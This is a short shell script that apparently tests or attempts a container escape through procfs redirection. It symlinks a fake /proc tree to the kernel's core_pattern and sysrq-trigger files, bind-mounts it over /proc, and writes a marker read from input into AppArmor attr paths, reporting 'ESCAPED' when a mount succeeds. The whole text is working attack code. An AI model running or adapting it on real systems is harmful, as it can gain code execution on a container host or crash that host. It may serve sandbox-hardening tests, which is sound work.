read -r _ marker
mkdir -p /tmp/proc/self/attr
ln -s /proc/sys/kernel/core_pattern /tmp/proc/self/attr/exec
ln -s /proc/sysrq-trigger /tmp/proc/self/attr/current
for target in /proc /proc/self /proc/self/attr /proc/sys; do
  mount --bind /tmp/proc "$target" 2>/dev/stdout | grep -q . || echo "ESCAPED: mounted over $target"
done
for file in /proc/self/attr/exec /proc/self/attr/apparmor/exec /proc/self/attr/current /proc/thread-self/attr/keycreate; do
  { echo "$marker" > "$file"; } 2>/dev/null
done
exit 0
